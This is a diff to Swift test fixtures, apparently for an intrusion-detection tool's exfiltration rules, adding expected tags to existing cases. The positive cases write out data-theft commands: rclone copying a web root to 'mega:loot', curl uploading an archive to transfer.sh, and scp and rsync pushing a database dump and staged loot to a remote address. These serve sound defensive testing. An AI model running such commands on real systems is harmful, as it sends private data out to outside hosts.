@@ -36,7 +36,7 @@ extension Fixtures {
             positives: [
                 Case("rclone copy of the web root", Actor(Proc.line("/usr/bin/rclone", "rclone copy /var/www mega:loot"), in: Trees.rootLogin).exec()),
                 Case("upload to transfer.sh", Actor(Proc.line("/usr/bin/curl", "curl --upload-file /tmp/d.tgz https://transfer.sh/d.tgz"), in: Trees.rootLogin).exec(),
-                     also: ["http-upload-of-local-file"]),
+                     also: ["http-upload-of-local-file", "archive-uploaded-over-http"]),
             ],
             negatives: [
                 Case("scheduled rclone backup", Actor(Proc.line("/usr/bin/rclone", "rclone sync /srv/data s3:backups/data"), in: Trees.unit("rclone-backup.service", Proc("/usr/bin/bash", ["/bin/bash", "/usr/local/bin/offsite.sh"]))).exec()),
@@ -45,7 +45,7 @@ extension Fixtures {
 
         RuleFixture("sensitive-files-copied-to-remote-host",
             positives: [
-                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec()),
+                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec(), also: ["tool-pushed-to-remote-temp"]),
                 Case("rsync of staged loot", Actor(Proc.line("/usr/bin/rsync", "rsync -az /dev/shm/.l/out.tgz 198.51.100.23:"), in: Trees.rootLogin).exec()),
             ],
             negatives: [
